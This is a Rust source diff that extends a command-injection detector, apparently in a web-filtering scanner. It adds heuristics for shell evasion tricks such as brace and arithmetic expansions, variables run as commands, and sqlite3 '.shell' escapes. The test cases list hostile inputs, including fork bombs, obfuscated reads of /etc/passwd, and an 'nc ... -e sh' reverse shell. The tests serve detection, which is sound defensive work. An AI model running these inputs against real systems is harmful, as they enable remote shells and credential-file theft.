@@ -543,6 +543,9 @@ fn arg_strength(a: &[u8]) -> u32 {
         || (a.len() >= 3 && a[0] == b'%' && a[1].is_ascii_alphabetic() && a[1..].contains(&b'%'));
     if strong {
         3
+    } else if a.len() > 3 && a.starts_with(b"--") && a[2].is_ascii_alphabetic() {
+        // GNU long option (`--version`, `--list`)
+        2
     } else if a[0] == b'-' || a.iter().all(u8::is_ascii_digit) {
         1
     } else {
@@ -605,6 +608,7 @@ pub(crate) fn scan(s: &[u8], field: Field, hits: &mut Hits) {
             bump(8, "cmdi-command");
         }
         brace_command(s, &mut bump);
+        expansions(s, &mut bump);
     }
     if best.0 > 0 {
         hits.add(Class::Cmdi, best.1, best.0);
@@ -633,7 +637,7 @@ fn fork_bomb(s: &[u8], bump: &mut impl FnMut(u32, &'static str)) {
             .iter()
             .rev()
             .take(32)
-            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_' || **b == b':')
+            .take_while(|b| b.is_ascii_alphanumeric() || matches!(**b, b'_' | b':' | b'.'))
             .count();
         if name_len == 0 {
             continue;
@@ -646,7 +650,7 @@ fn fork_bomb(s: &[u8], bump: &mut impl FnMut(u32, &'static str)) {
             .map_or(s.len(), |e| j + e);
         let body = &s[j + 1..body_end];
         let calls = memchr::memmem::find_iter(body, name).count();
-        if calls >= 2 && body.contains(&b'&') {
+        if calls >= 2 && (body.contains(&b'&') || body.contains(&b'|')) {
             bump(8, "cmdi-fork-bomb");
             return;
         }
@@ -664,21 +668,70 @@ fn brace_command(s: &[u8], bump: &mut impl FnMut(u32, &'static str)) {
             continue;
         };
         let inner = &s[at + 1..at + 1 + e];
-        if !(inner.starts_with(b",") || inner.ends_with(b",")) || inner.contains(&b' ') {
+        if !inner.contains(&b',') || inner.contains(&b' ') {
+            continue;
+        }
+        // letters glued around the braces take part in the word: c{a,oun}t
+        let pre_len = s[..at]
+            .iter()
+            .rev()
+            .take(16)
+            .take_while(|b| b.is_ascii_alphabetic())
+            .count();
+        let prefix = &s[at - pre_len..at];
+        let rest = &s[at + 2 + e..];
+        let suffix = &rest[..rest
+            .iter()
+            .take(16)
+            .take_while(|b| b.is_ascii_alphabetic())
+            .count()];
+        let glued = !prefix.is_empty() || !suffix.is_empty();
+        let empty_elem = inner.starts_with(b",") || inner.ends_with(b",");
+        if !glued && !empty_elem {
             continue;
         }
         let first = inner.split(|&b| b == b',').find(|w| !w.is_empty());
         if first.is_some_and(|w| {
-            let w: Vec<u8> = w
-                .iter()
-                .copied()
-                .filter(|b| !matches!(b, b'$' | b'"' | b'\''))
-                .collect();
-            lookup(&w).is_some()
+            let mut word: Vec<u8> = prefix.to_vec();
+            word.extend(
+                w.iter()
+                    .copied()
+                    .filter(|b| !matches!(b, b'$' | b'"' | b'\'')),
+            );
+            word.extend_from_slice(suffix);
+            lookup(&word).is_some()
         }) {
             bump(6, "cmdi-evasion");
             return;
         }
+    }
+}
+
+/// Shell expansions that only a shell reads: arithmetic `$((…))` / `$[…]`,
+/// process substitution `>(cmd)` / `<(cmd)`, tilde-stack references (`~+`,
+/// `~-2`) as the whole value, and `$var` run as a command after a separator.
+fn expansions(s: &[u8], bump: &mut impl FnMut(u32, &'static str)) {
+    if contains(s, b"$((") || contains(s, b"$[") {
+        bump(5, "cmdi-evasion");
+    }
+    for op in [b">(".as_slice(), b"<("] {
+        if let Some(p) = memchr::memmem::find(s, op) {
+            let w: &[u8] = s[p + 2..]
+                .split(|&b| b == b' ' || b == b')')
+                .next()
+                .unwrap_or(b"");
+            if lookup(w).is_some() {
+                bump(6, "cmdi-evasion");
+            }
+        }
+    }
+    let t = s.trim_ascii();
+    if t.len() >= 2
+        && t[0] == b'~'
+        && matches!(t[1], b'+' | b'-')
+        && t[2..].iter().all(u8::is_ascii_digit)
+    {
+        bump(5, "cmdi-evasion");
     }
 }
 
@@ -819,6 +872,21 @@ fn segment(
             .map_or(st, |p| p + 1);
         &trimmed[st..en.max(st)]
     };
+    if sep != Sep::Start {
+        // `;$c $a$b`: a variable run as the command
+        if sep == Sep::Strong
+            && trimmed.len() >= 2
+            && trimmed[0] == b'$'
+            && (trimmed[1].is_ascii_alphabetic() || trimmed[1] == b'{')
+        {
+            bump(5, "cmdi-evasion");
+        }
+        // sqlite3 shell escapes: `.shell cmd`, `.system cmd`
+        let dot = trimmed.strip_prefix(b".").unwrap_or(b"");
+        if dot.eq_ignore_ascii_case(b"shell") || dot.eq_ignore_ascii_case(b"system") {
+            bump(7, "cmdi-command");
+        }
+    }
     let mut cmd = strip_path(trimmed);
     let mut rest: Vec<&[u8]> = words.take(6).collect();
     let mut wrapped = false;
@@ -919,7 +987,7 @@ fn segment(
                 0
             } else {
                 match (tier_a, arg_w) {
-                    (_, 3) => 5,
+                    (_, 3) | (true, 2) => 5,
                     (true, _) => 4,
                     (false, _) => 2,
                 }
@@ -997,6 +1065,14 @@ mod tests {
             ":(){ :|:& };:",
             "alias a=id",
             "<!--#exec cmd=\"/usr/bin/id\"-->",
+            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+            ";\n.shell nc 10.0.0.1 6666 -e sh",
+            "c{a,oun}t /etc/passwd",
+            "$((7))z",
+            ">(tee log)",
+            "~+",
+            "env --version",
+            ".(){ .|.& };.",
         ] {
             assert!(s(p) >= 5, "{p} scored {}", s(p));
         }
@@ -1010,6 +1086,11 @@ mod tests {
             "env variables explained",
             "price: US$5 each; {a, b} sets",
             "pip the dog",
+            "query Product($id: ID!) { product(id: $id) { title } }",
+            "echo htmlspecialchars($comment, ENT_QUOTES);",
+            "~5 minutes",
+            "{a, b} and {c,d}",
+            "read the --help output",
         ] {
             assert!(s(p) < 5, "{p} scored {}", s(p));
         }
